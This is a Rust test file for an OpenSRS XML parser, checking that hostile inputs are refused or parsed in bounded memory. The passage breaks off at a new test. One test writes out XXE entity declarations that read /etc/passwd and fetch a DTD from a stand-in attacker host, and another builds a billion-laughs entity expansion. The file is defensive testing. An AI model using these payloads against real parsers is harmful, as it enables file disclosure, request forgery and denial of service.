//! Hostile input (issue 12, item 4): what an attacker, a broken peer or a
//! fuzzer sends. Each input is rejected with the right error, or accepted;
//! none panics, and the large ones are parsed in bounded memory, measured
//! by the counting allocator below.
//!
//! No timed assertion: linear time shows in the benches. Here it shows
//! structurally: the large inputs (200,000 items, 1,000,000 items, a 20 MiB
//! key, 2,000,000 references) parse at all within a debug test run, with a
//! peak heap within a small multiple of the input.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::fmt::Write as _;

use opensrs_core::{Kind, ParseErrorKind as K, ParseOptions, parse, parse_str};

// ---- a counting allocator ----------------------------------------------

/// Counts the heap of the current thread: tests run on parallel threads, and
/// each measures only its own allocations.
struct Counting;

thread_local! {
    /// Bytes allocated minus bytes freed by this thread.
    static CURRENT: Cell<isize> = const { Cell::new(0) };
    /// Highest `CURRENT` since the last [`measure`] began.
    static PEAK: Cell<isize> = const { Cell::new(0) };
    /// Number of allocations (not reallocations).
    static ALLOCS: Cell<usize> = const { Cell::new(0) };
}

/// Records a change of `delta` bytes; `transient` more are live for a
/// moment (a moving `realloc` holds old and new blocks at once).
fn record(delta: isize, transient: isize) {
    // `try_with`: the allocator may run while the thread's locals are torn down.
    let _ = CURRENT.try_with(|cur| {
        let now = cur.get() + delta;
        cur.set(now);
        let _ = PEAK.try_with(|peak| peak.set(peak.get().max(now + transient)));
    });
}

fn count_alloc() {
    let _ = ALLOCS.try_with(|n| n.set(n.get() + 1));
}

// SAFETY: every method forwards to `System` with the caller's arguments and
// only adds bookkeeping in thread-local `Cell`s, which never allocates.
#[allow(unsafe_code)]
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: forwarded; the caller upholds `GlobalAlloc::alloc`'s contract.
        let p = unsafe { System.alloc(layout) };
        if !p.is_null() {
            count_alloc();
            record(layout.size() as isize, 0);
        }
        p
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        // SAFETY: as for `alloc`.
        let p = unsafe { System.alloc_zeroed(layout) };
        if !p.is_null() {
            count_alloc();
            record(layout.size() as isize, 0);
        }
        p
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: forwarded; `ptr` was allocated by `System` with `layout`.
        unsafe { System.dealloc(ptr, layout) };
        record(-(layout.size() as isize), 0);
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // SAFETY: forwarded; the caller upholds `GlobalAlloc::realloc`'s contract.
        let p = unsafe { System.realloc(ptr, layout, new_size) };
        if !p.is_null() {
            // Counted as if the old block lived until the new one was filled.
            record(
                new_size as isize - layout.size() as isize,
                layout.size() as isize,
            );
        }
        p
    }
}

#[global_allocator]
static ALLOC: Counting = Counting;

/// What [`measure`] saw.
#[derive(Debug, Clone, Copy)]
struct Usage {
    /// Most heap bytes live at once, above what was live before.
    peak: usize,
    /// Allocations made.
    allocs: usize,
}

/// Runs `f` and reports the heap it used on this thread.
fn measure<T>(f: impl FnOnce() -> T) -> (T, Usage) {
    let start = CURRENT.with(Cell::get);
    PEAK.with(|p| p.set(start));
    let allocs = ALLOCS.with(Cell::get);
    let out = f();
    let peak = PEAK.with(Cell::get) - start;
    let usage = Usage {
        peak: usize::try_from(peak).unwrap_or(0),
        allocs: ALLOCS.with(Cell::get) - allocs,
    };
    (out, usage)
}

const MIB: usize = 1 << 20;

/// Most allocations a measured parse may make. The parser keeps every value
/// in one arena and borrows text from the input (ops-core's `Document`), so
/// a parse makes a handful of allocations however many values it reads: a
/// count that grew with the input would show per-value work on the heap.
const MAX_ALLOCS: usize = 64;

/// The bound every large input is held to: a peak heap of 4 × its size,
/// plus 1 MiB, and at most [`MAX_ALLOCS`] allocations.
fn assert_bounded(what: &str, input_len: usize, usage: Usage) {
    assert_within(what, input_len, usage, 4);
}

/// [`assert_bounded`] with another factor.
fn assert_within(what: &str, input_len: usize, usage: Usage, factor: usize) {
    let bound = factor * input_len + MIB;
    eprintln!(
        "{what}: input {input_len} bytes, peak heap {} bytes ({:.2} x input), {} allocations",
        usage.peak,
        usage.peak as f64 / input_len as f64,
        usage.allocs
    );
    assert!(
        usage.peak <= bound,
        "{what}: peak heap {} bytes is over {factor} x {input_len} + 1 MiB = {bound}",
        usage.peak
    );
    assert!(
        usage.allocs <= MAX_ALLOCS,
        "{what}: {} allocations, more than {MAX_ALLOCS}",
        usage.allocs
    );
}

// ---- helpers -------------------------------------------------------------

const HEAD: &str = "<OPS_envelope><header><version>0.9</version></header><body><data_block>";
const TAIL: &str = "</data_block></body></OPS_envelope>";

/// An envelope around `data`, the content of `data_block`.
fn env(data: &str) -> String {
    format!("{HEAD}{data}{TAIL}")
}

/// An envelope whose data_block is a dt_assoc with one item `x` holding `inner`.
fn item_x(inner: &str) -> String {
    env(&format!(
        r#"<dt_assoc><item key="x">{inner}</item></dt_assoc>"#
    ))
}

/// The error kind of parsing `input`, which must fail.
#[track_caller]
fn kind(input: impl AsRef<[u8]>) -> K {
    let input = input.as_ref();
    match parse(input) {
        Ok(doc) => panic!(
            "accepted, with {} values: {}",
            doc.len(),
            String::from_utf8_lossy(&input[..input.len().min(300)])
        ),
        Err(e) => {
            assert!(
                e.position().offset <= input.len(),
                "{e}: offset past the end"
            );
            e.kind().clone()
        }
    }
}

/// The text of item `x` of `item_x(inner)`, which must parse.
#[track_caller]
fn text_x(inner: &str) -> String {
    let xml = item_x(inner);
    let doc = parse_str(&xml).unwrap_or_else(|e| panic!("{e}\n{xml}"));
    doc.root()
        .get("x")
        .and_then(|n| n.as_str())
        .expect("item x holds text")
        .to_owned()
}

/// A small deterministic generator (xorshift64*), for garbage.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn fixture(name: &str) -> Vec<u8> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../ops-actions/fixtures/");
    std::fs::read(format!("{path}{name}")).expect("fixture exists")
}

// ---- DTDs and entities ------------------------------------------------------

#[test]
fn internal_dtd_subset_is_refused() {
    let xml = format!(
        "<!DOCTYPE OPS_envelope [<!ELEMENT OPS_envelope ANY>]>{}",
        env("<dt_scalar/>")
    );
    assert_eq!(kind(xml), K::InternalSubset);
    let xml = format!(
        "<!DOCTYPE OPS_envelope SYSTEM 'ops.dtd' []>{}",
        env("<dt_scalar/>")
    );
    assert_eq!(kind(xml), K::InternalSubset);
}

#[test]
fn billion_laughs_is_refused_before_any_expansion() {
    let mut dtd = String::from("<!DOCTYPE OPS_envelope [\n<!ENTITY lol0 \"lol\">\n");
    for i in 1..10 {
        let prev = format!("&lol{};", i - 1);
        writeln!(dtd, "<!ENTITY lol{i} \"{}\">", prev.repeat(10)).unwrap();
    }
    dtd.push_str("]>\n");
    let xml = format!("{dtd}{}", env("<dt_scalar>&lol9;</dt_scalar>"));
    let (k, usage) = measure(|| kind(&xml));
    assert_eq!(k, K::InternalSubset);
    assert!(usage.peak < 64 * 1024, "{usage:?}");
    // Without the DTD, the reference names nothing.
    assert_eq!(
        kind(env("<dt_scalar>&lol9;</dt_scalar>")),
        K::UnknownEntity("lol9".into())
    );
}

#[test]
fn external_entities_are_refused() {
    for decl in [
        r#"<!ENTITY xxe SYSTEM "file:///etc/passwd">"#,
        r#"<!ENTITY xxe PUBLIC "-//x//y" "http://attacker.example/x">"#,
        r#"<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;"#,
        r#"<!ENTITY % p "<!ENTITY xxe SYSTEM 'file:///etc/passwd'>"> %p;"#,
    ] {
        let xml = format!("<!DOCTYPE OPS_envelope [{decl}]>{}", item_x("&xxe;"));
        assert_eq!(kind(xml), K::InternalSubset, "{decl}");
    }
    // Outside a DTD, an external or parameter entity is just unknown or text.
    assert_eq!(kind(item_x("&xxe;")), K::UnknownEntity("xxe".into()));
    assert_eq!(text_x("%p;"), "%p;");
}

#[test]
fn the_doctype_external_id_is_never_fetched() {
    // A DOCTYPE may name an external DTD; the parser reads nothing from it.
    for id in [
        "SYSTEM 'http://127.0.0.1:1/never.dtd'",
        "SYSTEM \"file:///dev/zero\"",
        "PUBLIC '-//x//y' 'file:///etc/passwd'",
    ] {
        let xml = format!("<!DOCTYPE OPS_envelope {id}>{}", item_x("v"));
        let doc = parse_str(&xml).unwrap_or_else(|e| panic!("{id}: {e}"));
        assert_eq!(doc.root().get("x").and_then(|n| n.as_str()), Some("v"));
    }
}

#[test]
fn bad_doctypes_are_refused() {
    for (doctype, want) in [
        ("<!DOCTYPE html>", "name"),
        ("<!DOCTYPE OPS_envelope SYSTEM>", "literal"),
        ("<!DOCTYPE OPS_envelope SYSTEM 'a' junk>", "junk"),
        (
            "<!DOCTYPE OPS_envelope SYSTEM 'unterminated>",
            "unterminated",
        ),
    ] {
        let xml = format!("{doctype}{}", env("<dt_scalar/>"));
        let k = kind(&xml);
        assert!(
            matches!(k, K::BadDoctype(_) | K::Syntax(_)),
            "{doctype} ({want}): {k:?}"
        );
    }
    let twice = format!(
        "<!DOCTYPE OPS_envelope><!DOCTYPE OPS_envelope>{}",
        env("<dt_scalar/>")
    );
    assert!(matches!(kind(twice), K::BadDoctype(_)));
    let late = format!("{HEAD}<!DOCTYPE OPS_envelope><dt_scalar/>{TAIL}");
    assert!(matches!(kind(late), K::BadDoctype(_)));
}

#[test]
fn unknown_and_malformed_entities_are_refused() {
    for name in ["nbsp", "copy", "AMP", "lt ", "e\u{301}"] {
        let xml = item_x(&format!("&{name};"));
        let k = kind(&xml);
        assert!(
            matches!(&k, K::UnknownEntity(n) if n == name)
                || matches!(k, K::Syntax(_))
                // `&lt ;`: what follows `&` is no name.
                || (k == K::BareAmpersand && name == "lt "),
            "&{name};: {k:?}"
        );
    }
    // In a key, references are decoded by the parser itself.
    let xml = env(r#"<dt_assoc><item key="a&nbsp;b">v</item></dt_assoc>"#);
    assert_eq!(kind(xml), K::UnknownEntity("nbsp".into()));
    let xml = env(r#"<dt_assoc><item key="a&amp">v</item></dt_assoc>"#);
    assert_eq!(kind(xml), K::BareAmpersand);
    // A bare `&` and an unterminated reference in text.
    assert_eq!(kind(item_x("a & b")), K::BareAmpersand);
    assert_eq!(kind(item_x("&amp")), K::BareAmpersand);
}

// ---- nesting -----------------------------------------------------------------

/// `n` nested dt_assoc, each in an item `a`, around an empty dt_assoc.
fn nested(n: usize) -> String {
    env(&format!(
        "{}<dt_assoc/>{}",
        "<dt_assoc><item key=\"a\">".repeat(n),
        "</item></dt_assoc>".repeat(n)
    ))
}

#[test]
fn deep_nesting_is_refused_at_the_limit() {
    let xml = nested(100_000);
    let (k, usage) = measure(|| kind(&xml));
    assert_eq!(k, K::TooDeep { max: 64 });
    assert_bounded("100,000 nested dt_assoc, refused at 64", xml.len(), usage);
    // Elements that are no values do not nest either.
    let junk = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    assert!(matches!(kind(junk), K::UnexpectedElement { .. }));
    let items = env(&"<dt_assoc><item key='a'>".repeat(100_000));
    assert_eq!(kind(items), K::TooDeep { max: 64 });
}

#[test]
fn deep_nesting_with_a_raised_limit_parses_without_recursion() {
    // The parser is iterative: 100,000 levels do not touch the stack. Only
    // the borrowed document is checked: an owned `Value` that deep could not
    // be cloned or compared (its derived `Clone` and `PartialEq` recurse).
    let xml = nested(100_000);
    let opts = ParseOptions {
        max_depth: 100_001,
        ..ParseOptions::default()
    };
    let (len, usage) = measure(|| {
        let doc = opts
            .parse_str(&xml)
            .expect("parses with a raised depth limit");
        let mut deepest = doc.root();
        let mut depth = 0;
        while let Some(next) = deepest.get("a") {
            deepest = next;
            depth += 1;
        }
        assert_eq!(depth, 100_000);
        assert_eq!(deepest.path().len(), 2 * 100_000 - 1);
        doc.len()
    });
    assert_eq!(len, 100_001);
    // Each open element costs a parser frame and quick-xml's record of its
    // name, about 100 bytes against the 42 bytes of input per level: the
    // bound is 8 x here (linear still), not the 4 x of the flat inputs.
    assert_within(
        "100,000 nested dt_assoc (raised limit)",
        xml.len(),
        usage,
        8,
    );
}

// ---- characters ----------------------------------------------------------------

#[test]
fn invalid_utf8_is_refused_at_its_offset() {
    for bad in [
        &b"\xFF"[..],
        b"\xC0\xAF",         // overlong '/'
        b"\xE0\x80\xAF",     // overlong
        b"\xED\xA0\x80",     // a UTF-16 surrogate
        b"\xF4\x90\x80\x80", // above U+10FFFF
        b"\x80",             // lone continuation byte
        b"\xE2\x82",         // truncated
    ] {
        let mut xml = item_x("ab").into_bytes();
        let at = xml.windows(2).position(|w| w == b"ab").expect("marker") + 1;
        xml.splice(at..at, bad.iter().copied());
        let e = parse(&xml).expect_err("invalid UTF-8");
        assert_eq!(e.kind(), &K::InvalidUtf8, "{bad:X?}");
        assert_eq!(e.position().offset, at, "{bad:X?}");
    }
    // Truncated at the very end, and in a key.
    let mut xml = env("<dt_scalar/>").into_bytes();
    xml.push(0xE2);
    assert_eq!(kind(&xml), K::InvalidUtf8);
    let xml = env("<dt_assoc><item key=\"\u{20AC}\">v</item></dt_assoc>").into_bytes();
    let cut = xml
        .windows(3)
        .position(|w| w == "\u{20AC}".as_bytes())
        .expect("euro");
    let mut bad = xml.clone();
    bad.remove(cut + 1);
    assert_eq!(kind(&bad), K::InvalidUtf8);
    // UTF-16 input is not UTF-8 either.
    let utf16: Vec<u8> = "\u{FEFF}<OPS_envelope/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(kind(&utf16), K::Utf16("little-endian"));
}

#[test]
fn forbidden_characters_raw_are_refused_anywhere() {
    let places: [fn(&str) -> String; 5] = [
        |c| item_x(&format!("a{c}b")),
        |c| env(&format!("<dt_assoc><item key=\"k{c}\">v</item></dt_assoc>")),
        |c| item_x(&format!("<![CDATA[{c}]]>")),
        |c| format!("<!-- {c} -->{}", env("<dt_scalar/>")),
        |c| format!("{}{c}", env("<dt_scalar/>")),
    ];
    for c in [
        '\0', '\u{1}', '\u{8}', '\u{B}', '\u{C}', '\u{1F}', '\u{FFFE}', '\u{FFFF}',
    ] {
        for (i, place) in places.iter().enumerate() {
            let xml = place(&c.to_string());
            assert_eq!(
                kind(&xml),
                K::ForbiddenChar(c as u32),
                "U+{:04X} in place {i}",
                c as u32
            );
        }
    }
    // Allowed neighbours: tab, LF, CR, DEL, C1 controls, U+FFFD, U+10FFFF.
    for c in [
        '\t',
        '\n',
        '\u{7F}',
        '\u{85}',
        '\u{9F}',
        '\u{FFFD}',
        '\u{10FFFF}',
    ] {
        assert_eq!(text_x(&c.to_string()), c.to_string(), "U+{:04X}", c as u32);
    }
}

#[test]
fn forbidden_characters_as_references_are_refused() {
    for r in [
        "#0",
        "#x0",
        "#1",
        "#x1F",
        "#xB",
        "#xFFFE",
        "#xFFFF",
        "#xD800",
        "#xDFFF",
        "#55296",
        "#x110000",
        "#1114112",
        "#xFFFFFFFF",
        "#x100000000",
        "#99999999999999999999",
    ] {
        assert_eq!(
            kind(item_x(&format!("&{r};"))),
            K::ForbiddenCharRef(r.into()),
            "&{r};"
        );
        let in_key = env(&format!(
            "<dt_assoc><item key=\"&{r};\">v</item></dt_assoc>"
        ));
        assert_eq!(
            kind(in_key),
            K::ForbiddenCharRef(r.into()),
            "&{r}; in a key"
        );
    }
    for r in ["#", "#x", "#-1", "#+65", "#X41", "#x4G", "#6 5", "#１"] {
        let k = kind(item_x(&format!("&{r};")));
        assert!(
            matches!(&k, K::InvalidCharRef(n) if n == r) || matches!(k, K::Syntax(_)),
            "&{r};: {k:?}"
        );
    }
    // Allowed: the edges of the ranges, and any number of leading zeros.
    for (r, c) in [
        ("#9", '\t'),
        ("#xD", '\r'),
        ("#x20", ' '),
        ("#xD7FF", '\u{D7FF}'),
        ("#xE000", '\u{E000}'),
        ("#xFFFD", '\u{FFFD}'),
        ("#x10000", '\u{10000}'),
        ("#x10FFFF", '\u{10FFFF}'),
        ("#1114111", '\u{10FFFF}'),
        ("#x000000000000000000041", 'A'),
        ("#0000000000000000000065", 'A'),
    ] {
        assert_eq!(text_x(&format!("&{r};")), c.to_string(), "&{r};");
    }
}

// ---- structure ---------------------------------------------------------------

#[test]
fn duplicate_keys_are_refused_in_small_and_large_assocs() {
    let small =
        env(r#"<dt_assoc><item key="a">1</item><item key="b"/><item key="a">2</item></dt_assoc>"#);
    assert!(matches!(kind(small), K::DuplicateKey { key, .. } if key == "a"));
    // Keys compare after decoding: `&#97;` is `a`.
    let decoded = env(r#"<dt_assoc><item key="a">1</item><item key="&#97;">2</item></dt_assoc>"#);
    assert!(matches!(kind(decoded), K::DuplicateKey { key, .. } if key == "a"));
    // Past the pairwise check's size, through the hash map.
    let mut big = String::from("<dt_assoc>");
    for i in 0..1000 {
        write!(big, "<item key=\"k{i}\">v</item>").unwrap();
    }
    big.push_str("<item key=\"k500\">again</item></dt_assoc>");
    assert!(matches!(kind(env(&big)), K::DuplicateKey { key, .. } if key == "k500"));
    // The same key in different dt_assoc is fine.
    let nested = env(
        r#"<dt_assoc><item key="a"><dt_assoc><item key="a">1</item></dt_assoc></item></dt_assoc>"#,
    );
    parse_str(&nested).unwrap();
}

#[test]
fn duplicate_invalid_and_missing_indices_are_refused() {
    let dup =
        env(r#"<dt_array><item key="0">a</item><item key="1"/><item key="0">b</item></dt_array>"#);
    assert!(matches!(kind(dup), K::DuplicateIndex { index: 0, .. }));
    // `00` is index 0 too.
    let zeros = env(r#"<dt_array><item key="00">a</item><item key="0">b</item></dt_array>"#);
    assert!(matches!(kind(zeros), K::DuplicateIndex { index: 0, .. }));
    let gap = env(r#"<dt_array><item key="0">a</item><item key="2">b</item></dt_array>"#);
    assert!(matches!(kind(gap), K::IndexGap { index: 2, len: 2 }));
    let huge = env(r#"<dt_array><item key="4294967295">a</item></dt_array>"#);
    assert!(matches!(
        kind(huge),
        K::IndexGap {
            index: 4_294_967_295,
            len: 1
        }
    ));
    for bad in [
        "-1",
        "+1",
        " 1",
        "1 ",
        "a",
        "",
        "0x1",
        "1.0",
        "4294967296",
        "\u{0661}",
    ] {
        let xml = env(&format!(
            r#"<dt_array><item key="{bad}">a</item></dt_array>"#
        ));
        assert_eq!(kind(xml), K::InvalidIndex(bad.into()), "index {bad:?}");
    }
}

#[test]
fn missing_keys_are_refused() {
    assert_eq!(
        kind(env("<dt_assoc><item>v</item></dt_assoc>")),
        K::MissingKey
    );
    assert_eq!(kind(env("<dt_array><item/></dt_array>")), K::MissingKey);
    assert_eq!(
        kind(env(r#"<dt_assoc><item class="C">v</item></dt_assoc>"#)),
        K::MissingKey
    );
    // Other attributes are refused by name, and `key` only counts once.
    assert!(matches!(
        kind(env(r#"<dt_assoc><item Key="a">v</item></dt_assoc>"#)),
        K::UnexpectedAttribute { .. }
    ));
    assert!(matches!(
        kind(env(
            r#"<dt_assoc><item key="a" key="b">v</item></dt_assoc>"#
        )),
        K::Syntax(_)
    ));
}

#[test]
fn mixed_content_is_refused() {
    assert_eq!(kind(item_x("text<dt_assoc/>")), K::MixedContent);
    assert_eq!(kind(item_x("<dt_assoc/>text")), K::MixedContent);
    assert_eq!(kind(item_x("&amp;<dt_array/>")), K::MixedContent);
    assert_eq!(kind(item_x("<![CDATA[ ]]><dt_array/>")), K::MixedContent);
    assert_eq!(kind(item_x("<dt_scalar>a</dt_scalar>b")), K::MixedContent);
    assert!(matches!(
        kind(item_x("<dt_assoc/><dt_assoc/>")),
        K::MultipleValues(_)
    ));
    assert!(matches!(
        kind(env("<dt_assoc>text</dt_assoc>")),
        K::UnexpectedText(_)
    ));
    assert!(matches!(
        kind(env("<dt_scalar>a<b/></dt_scalar>")),
        K::UnexpectedElement { .. }
    ));
    // Whitespace around a value is formatting.
    let xml = item_x("\n  <dt_array/>\n  ");
    let doc = parse_str(&xml).unwrap();
    assert_eq!(doc.root().get("x").map(|n| n.kind()), Some(Kind::Array));
}

#[test]
fn an_xml_declaration_not_at_byte_0_is_refused() {
    let body = env("<dt_scalar/>");
    for before in [" ", "\n", "\r\n", "<!-- c -->", "<?pi?>"] {
        let xml = format!("{before}<?xml version='1.0'?>{body}");
        assert_eq!(kind(xml), K::MisplacedDeclaration, "after {before:?}");
    }
    assert_eq!(
        kind(format!("<?xml version='1.0'?><?xml version='1.0'?>{body}")),
        K::MisplacedDeclaration
    );
    assert_eq!(
        kind(format!("{HEAD}<?xml version='1.0'?><dt_scalar/>{TAIL}")),
        K::MisplacedDeclaration
    );
    assert_eq!(
        kind(format!("{body}<?xml version='1.0'?>")),
        K::MisplacedDeclaration
    );
    // Right after a BOM is byte 0 of the document.
    parse(format!("\u{FEFF}<?xml version='1.0'?>{body}").as_bytes()).unwrap();
    for decl in [
        "<?xml version='1.1'?>",
        "<?xml version='1.0' encoding='UTF-16'?>",
        "<?xml version='1.0' standalone='maybe'?>",
    ] {
        assert!(
            matches!(
                kind(format!("{decl}{body}")),
                K::BadDeclaration(_) | K::UnsupportedEncoding(_)
            ),
            "{decl}"
        );
    }
}

#[test]
fn two_documents_in_one_input_are_refused() {
    let one = env("<dt_scalar>a</dt_scalar>");
    assert_eq!(kind(format!("{one}{one}")), K::TrailingContent);
    assert_eq!(kind(format!("{one}\n{one}")), K::TrailingContent);
    assert_eq!(kind(format!("{one}junk")), K::TrailingContent);
    assert_eq!(kind(format!("{one}<x/>")), K::TrailingContent);
    // Trailing whitespace, comments and PIs are fine.
    parse_str(&format!("{one}\n<!-- end -->\n<?pi?>\n")).unwrap();
    // Two values in one data_block, two bodies, two headers.
    assert!(matches!(
        kind(env("<dt_scalar/><dt_scalar/>")),
        K::MultipleValues(_)
    ));
    let two_bodies = format!(
        "{}<body><data_block><dt_scalar/></data_block></body></OPS_envelope>",
        &one[..one.len() - "</OPS_envelope>".len()]
    );
    assert_eq!(kind(two_bodies), K::DuplicateElement("body"));
}

#[test]
fn every_truncation_of_a_fixture_is_refused() {
    for name in [
        "domain/check_transfer/reply_completed.xml",
        "domain/simple_transfer/request_with_nameservers.xml",
    ] {
        let full = fixture(name);
        parse(&full).unwrap_or_else(|e| panic!("{name}: {e}"));
        let end = full
            .iter()
            .rposition(|&b| b == b'>')
            .expect("a closing tag")
            + 1;
        for cut in 0..end {
            let k = kind(&full[..cut]);
            assert!(
                matches!(
                    k,
                    K::UnexpectedEof(_) | K::Syntax(_) | K::InvalidUtf8 | K::BadDeclaration(_)
                ),
                "{name} cut at {cut}: {k:?}"
            );
        }
    }
}

#[test]
fn garbage_is_refused_without_panicking() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let fixture = fixture("domain/check_transfer/reply_pending_owner.xml");
    let alphabet: &[&[u8]] = &[
        b"<",
        b">",
        b"/",
        b"\"",
        b"'",
        b"=",
        b"&",
        b";",
        b"#x",
        b"<item key=\"",
        b"<dt_assoc>",
        b"</dt_assoc>",
        b"<![CDATA[",
        b"]]>",
        b"<!--",
        b"-->",
        b"<?",
        b"?>",
        b"<!DOCTYPE",
        b" ",
        b"\n",
        b"a",
        b"0",
        b"\xFF",
        b"\xC3\xA9",
        b"\0",
    ];
    for _ in 0..2000 {
        let input: Vec<u8> = match rng.below(3) {
            // Random bytes.
            0 => (0..rng.below(200)).map(|_| rng.next() as u8).collect(),
            // Random tokens.
            1 => (0..rng.below(100))
                .flat_map(|_| alphabet[rng.below(alphabet.len())].iter().copied())
                .collect(),
            // A fixture with a few bytes overwritten.
            _ => {
                let mut f = fixture.clone();
                for _ in 0..1 + rng.below(4) {
                    let i = rng.below(f.len());
                    f[i] = rng.next() as u8;
                }
                f
            }
        };
        // Whatever the outcome, no panic; an error points inside the input.
        if let Err(e) = parse(&input) {
            assert!(e.position().offset <= input.len());
            let _ = e.to_string();
        }
    }
}

#[test]
fn limits_are_enforced() {
    let xml = env("<dt_array><item key='0'>a</item><item key='1'>b</item></dt_array>");
    let tight = |max_len, max_nodes| ParseOptions {
        max_len,
        max_nodes,
        ..ParseOptions::default()
    };
    let e = tight(xml.len() - 1, 100).parse_str(&xml).unwrap_err();
    assert_eq!(
        e.kind(),
        &K::TooLarge {
            len: xml.len(),
            max: xml.len() - 1
        }
    );
    let e = tight(xml.len(), 2).parse_str(&xml).unwrap_err();
    assert_eq!(e.kind(), &K::TooManyNodes { max: 2 });
    // Refused before any other work: not even UTF-8 is checked.
    let e = tight(10, 100)
        .parse(b"\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF")
        .unwrap_err();
    assert_eq!(e.kind(), &K::TooLarge { len: 11, max: 10 });
    // The defaults: 32 MiB, depth 64, 2,000,000 values.
    let d = ParseOptions::default();
    assert_eq!(
        (d.max_len, d.max_depth, d.max_nodes),
        (32 * MIB, 64, 2_000_000)
    );
}

// ---- large inputs --------------------------------------------------------------

#[test]
fn a_dt_assoc_with_200_000_items() {
    const N: usize = 200_000;
    let mut xml = String::with_capacity(N * 32 + 200);
    xml.push_str(HEAD);
    xml.push_str("<dt_assoc>");
    for i in 0..N {
        write!(xml, "<item key=\"key{i}\">value {i}</item>").unwrap();
    }
    xml.push_str("</dt_assoc>");
    xml.push_str(TAIL);
    let (len, usage) = measure(|| {
        let doc = parse_str(&xml).expect("200,000 items parse");
        let root = doc.root();
        assert_eq!(root.iter().next_back().map(|n| n.key()), Some("key199999"));
        root.len()
    });
    assert_eq!(len, N);
    assert_bounded("dt_assoc, 200,000 items", xml.len(), usage);

    // The same with a duplicate key at the very end: found, through the
    // hash map, in bounded memory.
    let at = xml.len() - "</dt_assoc>".len() - TAIL.len();
    xml.insert_str(at, "<item key=\"key0\">again</item>");
    let (k, usage) = measure(|| kind(&xml));
    assert!(
        matches!(k, K::DuplicateKey { ref key, .. } if key == "key0"),
        "{k:?}"
    );
    assert_bounded("dt_assoc, 200,000 items and a duplicate", xml.len(), usage);
}

#[test]
fn a_dt_array_with_1_000_000_items() {
    const N: usize = 1_000_000;
    // In reverse order: the parser places each element by its index.
    let mut xml = String::with_capacity(N * 24 + 200);
    xml.push_str(HEAD);
    xml.push_str("<dt_array>");
    for i in (0..N).rev() {
        write!(xml, "<item key=\"{i}\">{}</item>", i % 10).unwrap();
    }
    xml.push_str("</dt_array>");
    xml.push_str(TAIL);
    // 1,000,001 values: within the default max_nodes (2,000,000).
    let (len, usage) = measure(|| {
        let doc = parse_str(&xml).expect("1,000,000 items parse");
        let root = doc.root();
        assert_eq!(root.index(0).and_then(|n| n.as_str()), Some("0"));
        assert_eq!(root.index(N - 1).and_then(|n| n.as_str()), Some("9"));
        assert_eq!(root.index(123_457).map(|n| n.key()), Some("123457"));
        root.len()
    });
    assert_eq!(len, N);
    assert_bounded("dt_array, 1,000,000 items", xml.len(), usage);
}

#[test]
fn a_20_mib_key() {
    let key = "k".repeat(20 * MIB);
    let xml = env(&format!(
        "<dt_assoc><item key=\"{key}\">v</item></dt_assoc>"
    ));
    let input = xml.as_bytes().as_ptr_range();
    let (borrowed, usage) = measure(|| {
        let doc = parse_str(&xml).expect("a 20 MiB key parses");
        let item = doc.root().get(&key).expect("the item");
        assert_eq!(item.as_str(), Some("v"));
        // Borrowed from the input, not copied.
        input.contains(&item.key().as_ptr())
    });
    assert!(borrowed, "a plain key borrows from the input");
    assert_bounded("20 MiB key", xml.len(), usage);

    // With a reference in it, the key is decoded into the document's buffer.
    let key = format!("&amp;{}", "k".repeat(20 * MIB));
    let xml = env(&format!(
        "<dt_assoc><item key=\"{key}\">v</item></dt_assoc>"
    ));
    let (len, usage) = measure(|| {
        let doc = parse_str(&xml).expect("a 20 MiB key with a reference parses");
        doc.root().iter().next().map(|n| n.key().len())
    });
    assert_eq!(len, Some(20 * MIB + 1));
    assert_bounded("20 MiB key with a reference", xml.len(), usage);

    // As a dt_array index it is refused.
    let xml = env(&format!(
        "<dt_array><item key=\"{}\">v</item></dt_array>",
        "9".repeat(20 * MIB)
    ));
    let (k, usage) = measure(|| kind(&xml));
    // The error quotes 64 characters of the key, in its kind and its path,
    // not the 20 MiB (FUZZING.md, F1).
    assert!(matches!(k, K::InvalidIndex(ref s) if s == &format!("{}…", "9".repeat(64))));
    assert_bounded("20 MiB dt_array index", xml.len(), usage);
}

#[test]
fn a_value_of_2_000_000_references() {
    const N: usize = 2_000_000;
    // Entity references, then character references (hex and decimal).
    for (r, refs, text) in [("&amp;", 1, "&"), ("&#x41;&#233;", 2, "A\u{E9}")] {
        let n = N / refs;
        let xml = item_x(&r.repeat(n));
        let (ok, usage) = measure(|| {
            let doc = parse_str(&xml).expect("2,000,000 references parse");
            let value = doc.root().get("x").and_then(|n| n.as_str()).expect("text");
            value.len() == n * text.len() && value.starts_with(text) && value.ends_with(text)
        });
        assert!(ok, "{r}");
        assert_bounded(&format!("2,000,000 references ({r})"), xml.len(), usage);
    }
    // In a key (200,000: attribute values take another path).
    let xml = env(&format!(
        "<dt_assoc><item key=\"{}\">v</item></dt_assoc>",
        "&lt;".repeat(N / 10)
    ));
    let (key_len, usage) = measure(|| {
        let doc = parse_str(&xml).expect("a key of 200,000 references parses");
        doc.root().iter().next().map(|n| n.key().len())
    });
    assert_eq!(key_len, Some(N / 10));
    assert_bounded("key of 200,000 x &lt;", xml.len(), usage);
}

// ---- messages a person can act on (issue 15, item 6) -------------------

/// A reply whose top-level items are `items` (raw XML).
fn reply(items: &str) -> String {
    env(&format!(
        "<dt_assoc><item key='protocol'>XCP</item><item key='object'>DOMAIN</item>\
         <item key='is_success'>1</item><item key='response_text'>ok</item>{items}</dt_assoc>"
    ))
}

#[test]
fn a_1_mib_action_gives_a_short_line() {
